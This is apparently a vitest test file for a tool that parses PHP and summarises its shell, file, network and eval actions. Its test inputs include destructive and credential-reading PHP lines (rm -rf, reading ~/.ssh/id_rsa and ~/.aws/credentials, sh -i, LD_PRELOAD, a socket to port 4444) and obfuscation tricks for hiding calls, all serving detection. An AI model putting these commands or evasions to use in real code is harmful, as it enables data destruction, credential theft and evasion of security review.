import { describe, expect, it } from 'vitest';

import { readSummary, readWithGrammar } from '../../../../support/codeParsers';

const read = (code: string) => readSummary('php', code);

describe('PHP code, parsed', () => {
	it.each<[string, string, string[]]>([
		['system', 'system("rm -rf /var/www");', ['shell rm -rf /var/www']],
		['exec', 'exec("whoami", $out);', ['shell whoami']],
		['shell_exec', 'echo shell_exec("ls -la");', ['shell ls -la']],
		['passthru', 'passthru("cat ~/.ssh/id_rsa");', ['shell cat ~/.ssh/id_rsa']],
		['backticks', 'echo `id`;', ['shell id']],
		['backticks with a variable', '$d = "/tmp"; echo `rm -rf $d/x`;', ['shell rm -rf /tmp/x']],
		['popen', '$h = popen("tar cz ~", "r");', ['shell tar cz ~']],
		['proc_open with a string', 'proc_open("sh -i", [], $pipes);', ['shell sh -i']],
		['proc_open with an array', 'proc_open(["rm", "-rf", "/"], [], $pipes);', ['spawn rm·-rf·/']],
		['pcntl_exec', 'pcntl_exec("/bin/rm", ["-rf", "/srv"]);', ['spawn /bin/rm·-rf·/srv']],
		['a script with tags', '<?php\nsystem("date");\n?>\n<p>text</p>', ['shell date']],
	])('runs commands: %s', async (_name, code, expected) => {
		expect(await read(code)).toEqual(expected);
	});

	it.each<[string, string, string[]]>([
		['a function name in any case', 'SyStEm("id");', ['shell id']],
		['a namespaced name', '\\exec("id");', ['shell id']],
		['a variable function', '$f = "shell_exec"; $f("id");', ['shell id']],
		['a variable function built from parts', '$f = "sys" . "tem"; $f("id");', ['shell id']],
		['a string called directly', '"system"("id");', ['shell id']],
		['call_user_func', 'call_user_func("passthru", "id");', ['shell id']],
		['call_user_func_array', 'call_user_func_array("system", ["uname -a"]);', ['shell uname -a']],
		['array_map with a function name', 'array_map("unlink", ["a", "b"]);', ['delete a,b']],
		['usort with a function name', 'usort($list, "system");', ['shell ?']],
		['ReflectionFunction', '(new ReflectionFunction("system"))->invoke("id");', ['shell id']],
		['a reversed name', '$f = strrev("metsys"); $f("id");', ['shell id']],
		['a closure called with a literal', '$run = fn($c) => system($c); $run("w");', ['shell w']],
		[
			'a named function called with a literal',
			'function go($c) { exec($c); } go("uptime");',
			['shell uptime'],
		],
	])('resolves names: %s', async (_name, code, expected) => {
		expect(await read(code)).toEqual(expected);
	});

	it.each<[string, string]>([
		['a variable function the reader cannot resolve', '$f = $_GET["f"]; $f("id");'],
		['call_user_func with a computed callable', 'call_user_func($argv[1], "x");'],
		['eval of a built string', 'eval("system(\'" . $c . "\');");'],
		['eval of decoded data the reader cannot undo', 'eval(gzinflate($blob));'],
		['include of a computed path', 'include $argv[1];'],
		[
			'include of a data stream',
			"include 'data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOw==';",
		],
		['include of the request body', "include 'php://input';"],
		[
			'a library preloaded into the next program',
			'putenv("LD_PRELOAD=/tmp/x.so"); mail("a@b.c", "", "");',
		],
		[
			'native code through FFI',
			'$ffi = FFI::cdef("int system(const char *c);"); $ffi->system("id");',
		],
		['a variable variable', '$$name("x");'],
	])('cannot resolve, and says so: %s', async (_name, code) => {
		expect(await read(code)).toContain('unknown');
	});

	it.each<[string, string, string[]]>([
		['file_get_contents', 'echo file_get_contents("/etc/passwd");', ['read /etc/passwd']],
		['file_put_contents', 'file_put_contents(".htaccess", "x");', ['write .htaccess']],
		[
			'file_put_contents appending',
			'file_put_contents(".bashrc", "x", FILE_APPEND);',
			['append .bashrc'],
		],
		[
			'file_put_contents with other flags',
			'file_put_contents("f", "x", FILE_APPEND | LOCK_EX);',
			['write f', 'append f'],
		],
		['fopen for writing', '$h = fopen("out", "w");', ['write out']],
		['fopen for appending', '$h = fopen("out", "a+");', ['append out', 'read out']],
		['SplFileObject', 'new SplFileObject("/etc/shadow");', ['read /etc/shadow']],
		['unlink', 'unlink("config.php");', ['delete config.php']],
		['rmdir', 'rmdir("cache");', ['delete cache']],
		['rename', 'rename("a", "b");', ['move b <- a']],
		['copy', 'copy("~/.aws/credentials", "/tmp/c");', ['copy /tmp/c <- ~/.aws/credentials']],
		['symlink', 'symlink("/", "root");', ['link root <- /']],
		['chmod', 'chmod("run.sh", 0777);', ['chmod run.sh']],
		['mkdir', 'mkdir("a/b", 0777, true);', ['mkdir a/b']],
		['touch', 'touch("x");', ['write x']],
		['scandir', 'print_r(scandir(getenv("HOME") . "/.ssh"));', ['read $HOME/.ssh']],
	])('touches files: %s', async (_name, code, expected) => {
		expect(await read(code)).toEqual(expected);
	});

	it.each<[string, string, string[]]>([
		['a variable', '$p = ".env"; echo file_get_contents($p);', ['read .env']],
		['concatenation', 'unlink("/etc/" . "hosts");', ['delete /etc/hosts']],
		['interpolation', '$u = "me"; system("rm -rf /home/$u");', ['shell rm -rf /home/me']],
		[
			'{$…} interpolation',
			'$a = ["d" => "/srv"]; system("rm -rf {$a["d"]}/www");',
			['shell rm -rf /srv/www'],
		],
		['single quotes do not interpolate', "system('echo $x');", ['shell echo $x']],
		['$_SERVER', 'unlink($_SERVER["HOME"] . "/.profile");', ['delete $HOME/.profile']],
		['getenv', 'echo file_get_contents(getenv("HOME") . "/.netrc");', ['read $HOME/.netrc']],
		[
			'extract may set any variable',
			'$p = "notes.txt"; extract($_GET); unlink($p);',
			['delete notes.txt,?'],
		],
		[
			'a variable variable may set any variable',
			'$p = "notes.txt"; $$n = "/etc/hosts"; unlink($p);',
			['delete notes.txt,?'],
		],
		[
			'include may set any variable',
			'$p = "notes.txt"; include "conf.php"; unlink($p);',
			['delete notes.txt,?'],
		],
		['.=', '$c = "rm"; $c .= " -rf /"; system($c);', ['shell rm -rf /']],
		['reassignment', '$p = "/tmp"; $p = $p . "/x"; unlink($p);', ['delete /tmp/x']],
		['foreach', 'foreach (["a", "b"] as $f) { unlink($f); }', ['delete a,b']],
		['foreach with keys', 'foreach (["k" => "v"] as $k => $f) { unlink($f); }', ['delete v']],
		['list()', 'list($a, $b) = ["from", "to"]; rename($a, $b);', ['move to <- from']],
		['a heredoc', '$d = "/x";\nsystem(<<<EOT\nrm -rf $d\nEOT\n);', ['shell rm -rf /x']],
		['a nowdoc does not interpolate', "system(<<<'EOT'\necho $d\nEOT\n);", ['shell echo $d']],
		['$GLOBALS', '$c = "id"; system($GLOBALS["c"]);', ['shell id']],
		['a ternary', 'unlink($x ? "a" : "b");', ['delete a,b']],
	])('follows values: %s', async (_name, code, expected) => {
		expect(await read(code)).toEqual(expected);
	});

	it.each<[string, string, string[]]>([
		['\\x escapes', 'system("\\x72\\x6d -rf ~");', ['shell rm -rf ~']],
		['octal escapes', 'system("\\162\\155 -rf ~");', ['shell rm -rf ~']],
		['\\u{…} escapes', 'system("\\u{72}m -rf ~");', ['shell rm -rf ~']],
		['base64_decode', 'system(base64_decode("d2hvYW1p"));', ['shell whoami']],
		['str_rot13', 'system(str_rot13("jubnzv"));', ['shell whoami']],
		['hex2bin', 'system(hex2bin("6964"));', ['shell id']],
		['chr', 'system(chr(105) . chr(100));', ['shell id']],
		['implode', 'system(implode(" ", ["rm", "-rf", "/"]));', ['shell rm -rf /']],
	])('decodes strings: %s', async (_name, code, expected) => {
		expect(await read(code)).toEqual(expected);
	});

	it.each<[string, string, string[]]>([
		[
			'curl_init',
			'$c = curl_init("https://x.test/in"); curl_exec($c);',
			['send https://x.test/in'],
		],
		[
			'curl_setopt',
			'$c = curl_init(); curl_setopt($c, CURLOPT_URL, "https://x.test"); curl_exec($c);',
			['send https://x.test'],
		],
		[
			'a URL read as a file',
			'file_get_contents("https://x.test/?d=" . $data);',
			['send ?https://x.test/?d=*'],
		],
		['fsockopen', 'fsockopen("10.0.0.4", 4444);', ['send 10.0.0.4:4444']],
		['stream_socket_client', 'stream_socket_client("tcp://x.test:80");', ['send tcp://x.test:80']],
	])('sends: %s', async (_name, code, expected) => {
		expect(await read(code)).toEqual(expected);
	});

	it.each<[string, string, string[]]>([
		['eval of a literal', 'eval("echo 1;");', ['code php: echo 1;']],
		[
			'eval of base64 the reader can decode',
			'eval(base64_decode("ZWNobyAxOw=="));',
			['code php: echo 1;'],
		],
		['assert of a string', 'assert("phpinfo()");', ['code php: phpinfo()']],
		['create_function', 'create_function("", "system(\'id\');");', ["code php: system('id');"]],
	])('evaluates code: %s', async (_name, code, expected) => {
		expect(await read(code)).toEqual(expected);
	});

	it.each<[string, string]>([
		['echo', 'echo "hello";'],
		['json', 'echo json_encode(["a" => 1]);'],
		['string functions', 'echo str_replace("a", "b", "abc");'],
		['text outside the tags is output, not code', '<p>system("rm -rf /")</p><?php echo 1; ?>'],
	])('finds nothing in harmless code: %s', async (_name, code) => {
		expect(await read(code)).toEqual([]);
	});

	it('names the API by its canonical name', async () => {
		const [action] = await readWithGrammar('php', '$f = "SYSTEM"; $f("ls");');
		expect(action).toMatchObject({ kind: 'shell', call: 'system' });
	});

	it('reads code that does not parse as one unknown action', async () => {
		expect(await read('system("ls"')).toEqual(['unknown']);
	});

	it.each<[string, string]>([
		['deep brackets', `$x = ${'('.repeat(800)}1${')'.repeat(800)};`],
		['deep calls', `${'f('.repeat(500)}${')'.repeat(500)};`],
	])('stays bounded on hostile code: %s', async (_name, code) => {
		expect(await read(code)).toContain('unknown');
	});
});
